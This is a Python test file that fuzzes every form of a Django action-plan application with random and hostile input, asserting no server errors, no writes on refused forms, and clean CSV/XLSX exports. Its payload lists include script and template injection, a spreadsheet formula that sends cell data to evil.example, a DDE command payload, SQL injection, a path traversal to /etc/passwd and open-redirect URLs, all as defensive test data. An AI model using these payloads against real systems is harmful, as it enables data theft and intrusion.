"""Every form of the project fed random and hostile input through the test client.

For each form, the page is fetched as the person who may use it and its fields are read
from the HTML, as a browser would submit them; Hypothesis then keeps, replaces, repeats
or drops each field and adds strangers: overlong, empty, unicode, NUL bytes and other
control characters, 1 MB values, future, impossible and far-off dates, digits other than
0 to 9, timescales that do not parse, unknown choices, forged ids. Whatever comes in:

- the answer is never a server error (5xx);
- unless the form went through (a redirect), no history table and no tracked table
  gained or lost a row.

At the end: a sign-in sent in every charset Python knows (and some it does not), and
evidence with every kind of control character, after which the exports still download.

Each example runs in a savepoint that is rolled back, so every example starts from the
same plan. The forms are found from the access matrix, so a new form is covered as soon
as it has a row there.
"""

import datetime
import encodings.aliases
import io
import os
import re
from html.parser import HTMLParser

import pytest
from django.conf import settings as django_settings
from django.db import transaction
from django.test import Client
from django.urls import reverse
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from actionplan.models import Section
from agencies.models import Agency, Post
from tests.served import submit
from tests.test_access_matrix import MATRIX, ROLES, post_data

from .conftest import table_counts

ONE_MB = 1024 * 1024
XSS = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "javascript:alert(1)",
    "{{7*7}}",
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3",
]
STRANGE = [
    "",
    " ",
    "\t\r\n",
    "\x00",
    "before\x00after",
    "\ufeff",
    "\u202eevil",
    "🙂" * 20,
    "Ω≈ç√∫˜µ≤≥÷",
    "' OR 1=1 --",
    "%s%n%x",
    "../../../../etc/passwd",
    "\ud7ff",
    "null",
    "None",
    "true",
    "[]",
    "{}",
    # Pasted from Word or a terminal: taken out, or turned into line breaks (issue 10).
    "line\x0bbreak in a Word cell",
    "page\x0cbreak",
    "\x1b[31mred\x1b[0m",
    "\x07\x08\x7f",
    "\x85\x9b",
    "\ufffe\uffff",
    "\r\rold Mac\r",
]
TOMORROW = datetime.date.today() + datetime.timedelta(days=1)
DATES = [
    TOMORROW.strftime("%d/%m/%Y"),
    TOMORROW.isoformat(),
    "31/12/2999",
    "31/02/2015",
    "00/00/0000",
    "01/13/2015",
    "0001-01-01",
    "9999-12-31",
    "2015-06-01T00:00",
    "yesterday",
    "1/6/15",
    "32/1/2015",
    "-1/6/2015",
    # Outside 2000 to ten years ahead, or not in the digits 0 to 9 (issue 10).
    "31/12/1999",
    "1999-12-31",
    "01/01/2000",
    "1/1/0001",
    "0000-01-01",
    "２７/３/２０１５",
    "٢٧/٣/٢٠١٥",
]
TIMESCALES = [
    "Smarch 2015",
    "Q5 2015/16",
    "Q1 2015/17",
    "end of 2015",
    "Dec",
    "Dec 0",
    "Dec 99999",
    "13/2015",
    "Sept 20155",
    "Q2 2015/16 and a bit",
    "Jan 0001",
    "Dec 0000",
    "Dec 1999",
    "Dec 99",
    "Q4 2099/00",
    "Sept ２０１５",
    "Sept\x0b2015",
]
NUMBERS = ["-1", "0", "1.5", "1e3", "NaN", "Infinity", str(2**63), str(2**31), "０", "٣", "0x10"]
CHOICES = ["red", "RED", "purple", "none", "amber ", "agency_lead", "superuser", "chair", "on"]
FORGED = ["999999", "agency:999999", "post:0", "agency:", "agency:1:1", "post:x", ":", "1"]


def nasty_scalars(real_ids):
    return st.one_of(
        st.text(max_size=40),
        st.sampled_from(STRANGE + XSS + DATES + TIMESCALES + NUMBERS + CHOICES + FORGED),
        st.sampled_from(real_ids),
        # Around every length limit of the project: 50, 150, 200, 300, 2000, 5000.
        st.sampled_from([50, 150, 200, 300, 2000, 5000]).flatmap(
            lambda limit: st.integers(limit - 1, limit + 2).map(lambda n: "é" * n)
        ),
        st.just("A" * ONE_MB),
    )


def mutated(data, baseline, real_ids):
    """Draw a submission: each field kept, replaced, repeated or dropped; strangers added."""
    scalar = nasty_scalars(real_ids)
    submission = {}
    for name, values in baseline.items():
        choice = data.draw(st.sampled_from(["keep", "keep", "replace", "repeat", "drop"]))
        if choice == "keep":
            submission[name] = values
        elif choice == "replace":
            submission[name] = [data.draw(scalar)]
        elif choice == "repeat":
            submission[name] = data.draw(st.lists(scalar, min_size=2, max_size=4))
    strangers = data.draw(
        st.dictionaries(st.text(min_size=1, max_size=12), scalar.map(lambda v: [v]), max_size=2)
    )
    for name, values in strangers.items():
        submission.setdefault(name.replace("\x00", ""), values)
    return submission


class FormFields(HTMLParser):
    """The fields of the forms on a page that submit to ``action``, with the values a
    browser would send (checked boxes, selected options, text as shown)."""

    def __init__(self, action, method):
        super().__init__()
        self.action, self.method = action, method
        self.fields = {}
        self._in_form = False
        self._textarea = self._select = None

    def _add(self, name, value=None):
        values = self.fields.setdefault(name, [])
        if value is not None:
            values.append(value)

    def handle_starttag(self, tag, attrs):
        a = dict(attrs)
        if tag == "form":
            action = a.get("action") or self.action
            self._in_form = (a.get("method") or "get").lower() == self.method and (
                action == self.action
            )
            return
        if not self._in_form or not a.get("name"):
            if tag == "option" and self._select and "selected" in a:
                self._add(self._select, a.get("value", ""))
            return
        name, kind = a["name"], (a.get("type") or "text").lower()
        if name == "csrfmiddlewaretoken" or kind in {"submit", "button", "image", "file"}:
            return
        if tag == "input":
            checked = kind not in {"checkbox", "radio"} or "checked" in a
            self._add(name, a.get("value", "on" if kind == "checkbox" else "") if checked else None)
        elif tag == "textarea":
            self._textarea = name
            self._add(name)
        elif tag == "select":
            self._select = name
            self._add(name)

    def handle_data(self, data):
        if self._textarea:
            self.fields[self._textarea].append(data)

    def handle_endtag(self, tag):
        if tag == "form":
            self._in_form = False
        elif tag == "textarea":
            self._textarea = None
        elif tag == "select":
            self._select = None


def form_fields(html, action, method="post"):
    parser = FormFields(action, method)
    parser.feed(html)
    return {name: values or [""] for name, values in parser.fields.items()}


def who_submits(name):
    """The role whose POST to ``name`` goes through (or who may at least try)."""
    _, get_expected, post_expected = MATRIX[name]
    if post_expected == "anyone-post":
        return "anonymous"
    if isinstance(post_expected, str):
        return None
    for wanted in ("done", "ok"):
        for role in ROLES[1:]:
            if post_expected.get(role) == wanted and get_expected.get(role) == "ok":
                return role
    return None


POST_FORMS = sorted(name for name in MATRIX if who_submits(name))
GET_FORMS = ["plan_overview", "board_pack_preview", "activity"]
# About 1,800 examples in all, a minute or so on SQLite. BAD_INPUT_SCALE=10 for a long run.
SCALE = float(os.environ.get("BAD_INPUT_SCALE", "1"))
EXAMPLES = {
    name: max(1, int(n * SCALE))
    for name, n in {"default": 70, "login": 100, "board_pack": 25, "GET": 40}.items()
}
HYPOTHESIS = dict(
    deadline=None,
    suppress_health_check=[
        HealthCheck.function_scoped_fixture,
        HealthCheck.too_slow,
        HealthCheck.data_too_large,
        HealthCheck.large_base_example,
    ],
    derandomize=True,  # the same examples every run: a failure can be replayed
    database=None,
)


def real_ids(world):
    agencies = list(Agency.objects.values_list("pk", flat=True))
    posts = list(Post.objects.values_list("pk", flat=True))
    return [
        *(str(pk) for pk in agencies),
        *(f"agency:{pk}" for pk in agencies),
        *(f"post:{pk}" for pk in posts),
        *(str(pk) for pk in Section.objects.values_list("pk", flat=True)),
        *(str(user.pk) for user in world["users"].values()),
        world["plan"].slug,
    ]


def check(client, method, url, submission):
    """One example, rolled back afterwards. Returns the status."""
    cookie = client.cookies.get(django_settings.SESSION_COOKIE_NAME)
    with transaction.atomic():
        before = table_counts()
        send = client.post if method == "post" else client.get
        response = send(url, submission)
        after = table_counts()
        transaction.set_rollback(True)
    if cookie is not None:  # a password change gives a new session: back to the old one
        client.cookies[django_settings.SESSION_COOKIE_NAME] = cookie.value
    assert response.status_code < 500, (url, submission)
    if response.status_code != 302:
        changed = {t: (before[t], after[t]) for t in before if before[t] != after[t]}
        assert not changed, (url, response.status_code, changed, submission)
    return response.status_code


def signed_in(client, world, role):
    if role != "anonymous":
        client.force_login(world["users"][role])
    return client


@pytest.mark.parametrize("name", POST_FORMS)
@settings(max_examples=EXAMPLES["default"], **HYPOTHESIS)
@given(data=st.data())
def test_no_input_to_a_form_gives_a_server_error_or_writes_when_refused(client, world, name, data):
    if not hasattr(client, "_baseline"):  # once per test, not per example
        role = who_submits(name)
        signed_in(client, world, role)
        kwargs_spec = MATRIX[name][0]
        url = reverse(name, kwargs={key: make(world) for key, make in kwargs_spec.items()})
        page = client.get(url)
        assert page.status_code == 200, (name, role)
        baseline = form_fields(page.content.decode(), url)
        for field, value in post_data(name, world).items():
            baseline[field] = [str(v) for v in value] if isinstance(value, list) else [str(value)]
        client._baseline = (url, baseline, real_ids(world))
    url, baseline, ids = client._baseline

    check(client, "post", url, mutated(data, baseline, ids))


@pytest.fixture
def quick_pdf(monkeypatch):
    """Issuing a pack renders its PDF (seconds); the form is what is under test here.
    Hostile text in the real PDF is tested in test_hostile_text.py."""
    import weasyprint

    monkeypatch.setattr(weasyprint.HTML, "write_pdf", lambda self, *a, **kw: b"%PDF-1.7 stub")


@pytest.mark.parametrize("name", ["board_pack_issue", "board_pack_draft_pdf"])
@settings(max_examples=EXAMPLES["board_pack"], **HYPOTHESIS)
@given(data=st.data())
def test_no_input_to_the_board_pack_form_gives_a_server_error(client, world, quick_pdf, name, data):
    if not hasattr(client, "_baseline"):
        signed_in(client, world, "manager")
        page = client.get(reverse("board_pack_new"))
        fields = form_fields(page.content.decode(), reverse("board_pack_preview"), "get")
        fields.setdefault("plan", [world["plan"].slug])
        fields["as_at"] = [datetime.date.today().strftime("%d/%m/%Y")]
        client._baseline = (fields, real_ids(world))
    baseline, ids = client._baseline

    check(client, "post", reverse(name), mutated(data, baseline, ids))


@pytest.mark.parametrize("name", GET_FORMS)
@settings(max_examples=EXAMPLES["GET"], **HYPOTHESIS)
@given(data=st.data())
def test_no_input_to_a_search_or_choice_form_gives_a_server_error(client, world, name, data):
    if not hasattr(client, "_baseline"):
        signed_in(client, world, "manager")
        source = "board_pack_new" if name == "board_pack_preview" else name
        page = client.get(reverse(source))
        fields = form_fields(page.content.decode(), reverse(name), "get")
        assert fields, name
        client._baseline = (fields, real_ids(world))
    baseline, ids = client._baseline
    submission = mutated(data, baseline, ids)
    # A 1 MB query string is the proxy's to refuse (414); keep GET values smaller.
    submission = {k: [v[:2000] for v in values] for k, values in submission.items()}

    check(client, "get", reverse(name), submission)


@settings(max_examples=EXAMPLES["login"], **HYPOTHESIS)
@given(
    username=st.one_of(st.text(max_size=200), st.sampled_from(STRANGE + XSS + ["chair"])),
    password=st.one_of(st.text(max_size=200), st.sampled_from(STRANGE + XSS)),
    next_url=st.sampled_from(["", "/", "//evil.example", "https://evil.example/", "\x00", "/%0a"]),
)
def test_no_sign_in_attempt_gives_a_server_error(client, db, username, password, next_url):
    status = check(
        client,
        "post",
        reverse("login"),
        {"username": username, "password": password, "next": next_url},
    )

    assert status in (200, 400, 429)  # never signed in: no such password


def test_the_forms_under_test_are_every_form_of_the_project():
    assert set(POST_FORMS) >= {
        "rate_action",
        "add_evidence",
        "edit_evidence",
        "withdraw_evidence",
        "edit_action",
        "move_action",
        "add_action",
        "edit_section",
        "agency_new",
        "agency_edit",
        "post_new",
        "person_new",
        "person_edit",
        "person_deactivate",
        "membership_new",
        "membership_remove",
        "password_change",
        "login",
        "person_invite",
        "reporting_calendar_edit",
        "my_emails",
        "outbox_send_again",
        "unsubscribe",
        "password_reset",
        "add_attachment",
        "withdraw_attachment",
    }


# -- found by the tests above, and kept ---------------------------------------------------


@pytest.mark.parametrize("name", ["add_action", "edit_action"])
def test_a_lead_posted_twice_is_taken_once_not_a_server_error(client, manager, get_action, name):
    client.force_login(manager)
    action = get_action("2.2")
    lead = f"agency:{action.leads.first().agency_id}"
    url = reverse(name, args=[action.section_id if name == "add_action" else action.pk])
    data = {"text": "An action", "leads": [lead, lead], "timescale": "Dec 2016"}
    data["timescale_reason"] = "Moved to the winter"

    response = submit(client, url, data)

    assert response.status_code in (200, 302)


def baseline_for(client, world, name):
    role = who_submits(name)
    signed_in(client, world, role)
    kwargs_spec = MATRIX[name][0]
    url = reverse(name, kwargs={key: make(world) for key, make in kwargs_spec.items()})
    baseline = form_fields(client.get(url).content.decode(), url)
    for field, value in post_data(name, world).items():
        baseline[field] = [str(v) for v in value] if isinstance(value, list) else [str(value)]
    return url, baseline


@pytest.mark.parametrize("name", POST_FORMS)
def test_a_nul_byte_in_any_field_is_refused_not_a_server_error(client, world, name):
    # PostgreSQL refuses NUL in text: a form that let one through would fail with a 500.
    url, baseline = baseline_for(client, world, name)
    for field in baseline:
        check(client, "post", url, {**baseline, field: ["Evidence\x00 with a NUL"]})


@pytest.mark.parametrize(
    ("name", "fields"),
    [
        ("plan_overview", ["q", "section", "rag", "lead", "no_evidence_since", "as_at"]),
        ("board_pack_preview", ["plan", "as_at", "since"]),
    ],
)
def test_a_nul_byte_in_a_search_or_choice_is_refused_not_a_server_error(
    client, world, name, fields
):
    signed_in(client, world, "manager")
    for field in fields:
        check(client, "get", reverse(name), {"plan": world["plan"].slug, field: "\x00"})
        check(client, "get", reverse(name), {field: "x\x00y"})


EXTREME_DATES = [
    "0001-01-01",
    "9999-12-31",
    "01/01/0001",
    "31/12/9999",
    "1/1/1",
    "２０１５-０１-０１",
]
EXTREME_TIMESCALES = ["Jan 0001", "Dec 9999", "Dec 0000", "Sept ２０１５", "Q4 9999/00"]


@pytest.mark.parametrize(
    ("name", "fields"),
    [
        ("plan_overview", ["no_evidence_since", "as_at"]),
        ("board_pack_preview", ["as_at", "since"]),
        ("activity", ["start", "end"]),
    ],
)
def test_an_extreme_date_in_a_search_or_choice_is_refused_not_a_server_error(
    client, world, name, fields
):
    # /activity/?start=0001-01-01 was a server error (issue 10).
    signed_in(client, world, "manager")
    for field in fields:
        for date in EXTREME_DATES:
            check(client, "get", reverse(name), {"plan": world["plan"].slug, field: date})


@pytest.mark.parametrize("name", POST_FORMS)
def test_an_extreme_date_or_timescale_in_any_form_is_refused_not_a_server_error(
    client, world, name
):
    url, baseline = baseline_for(client, world, name)
    for field in baseline:
        if "date" in field or field in {"as_at", "since", "start", "end"}:
            values = EXTREME_DATES
        elif field == "timescale":
            values = EXTREME_TIMESCALES
        else:
            continue
        for value in values:
            assert check(client, "post", url, {**baseline, field: [value]}) != 302, (field, value)


# -- issue 10: odd charsets, and control characters on the way out -------------------------

# Every codec Python knows, text or not, and names it does not know.
CHARSETS = sorted(
    set(encodings.aliases.aliases.values())
    | {"utf-8", "UTF-8", "latin-1", "utf-16", "utf-7", "rot13", "hex", "base64", "zlib", "bz2"}
    | {"uu", "quopri", "punycode", "idna", "undefined", "no-such-charset", "", "utf-8; x"}
)


def form_body(kind, boundary, fields):
    if kind == "urlencoded":
        return b"&".join(name + b"=" + value for name, value in fields)
    parts = [
        b"--"
        + boundary
        + b'\r\nContent-Disposition: form-data; name="'
        + name
        + b'"\r\n\r\n'
        + value
        + b"\r\n"
        for name, value in fields
    ]
    return b"".join(parts) + b"--" + boundary + b"--\r\n"


@settings(max_examples=EXAMPLES["login"], **HYPOTHESIS)
@given(
    charset=st.sampled_from(CHARSETS),
    kind=st.sampled_from(["urlencoded", "multipart"]),
    username=st.one_of(st.binary(max_size=40), st.sampled_from([b"caf\xe9", b"chair", b"%E9"])),
    password=st.binary(max_size=40),
)
def test_no_charset_on_a_sign_in_gives_a_server_error(db, charset, kind, username, password):
    # With CSRF checked as for a browser: the check reads the form, and so do the error
    # pages (where an unreadable form once escaped Django as gunicorn's bare 500 page).
    client = Client(enforce_csrf_checks=True)
    token = client.get(reverse("login")).cookies["csrftoken"].value
    boundary = b"XyZ0123"
    content_type = (
        "application/x-www-form-urlencoded"
        if kind == "urlencoded"
        else f"multipart/form-data; boundary={boundary.decode()}"
    )
    body = form_body(kind, boundary, [(b"username", username), (b"password", password)])
    with transaction.atomic():
        before = table_counts()
        response = client.generic(
            "POST",
            reverse("login"),
            body,
            content_type=f"{content_type}; charset={charset}",
            HTTP_X_CSRFTOKEN=token,
        )
        after = table_counts()
        transaction.set_rollback(True)

    assert response.status_code in (200, 400, 429), (charset, kind, response.status_code)
    assert before == after
    readable = charset.split(";")[0].strip().lower() in {"utf-8", "utf8", "no-such-charset", ""}
    if kind == "urlencoded" and not readable:
        assert response.status_code == 400, charset


CONTROL_CHARACTER = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\ufffe\uffff]")
CONTROL = st.characters(codec=None, categories=["Cc", "Co", "Cn"], exclude_characters="\x00")


@settings(max_examples=EXAMPLES["board_pack"], **HYPOTHESIS)
@given(
    pasted=st.lists(
        st.one_of(CONTROL, st.sampled_from(["Drop-in", " ", "\n", "é", "🙂"])), max_size=30
    )
)
def test_whatever_is_pasted_into_evidence_the_exports_still_download(client, world, pasted):
    if not hasattr(client, "_baseline"):  # once per test, not per example
        url, baseline = baseline_for(client, world, "add_evidence")
        reader = Client()
        reader.force_login(world["users"]["board_member"])
        client._baseline = (url, baseline, reader)
    url, baseline, reader = client._baseline
    text = "Evidence " + "".join(pasted)

    with transaction.atomic():
        response = client.post(url, {**baseline, "text": [text]})
        xlsx = reader.get(reverse("export_xlsx"))
        csv_export = reader.get(reverse("export_csv"))
        transaction.set_rollback(True)

    assert response.status_code == 302 and "/actions/" in response["Location"], text
    assert (xlsx.status_code, csv_export.status_code) == (200, 200)
    load_workbook(io.BytesIO(xlsx.content))
    assert not CONTROL_CHARACTER.search(csv_export.getvalue().decode())
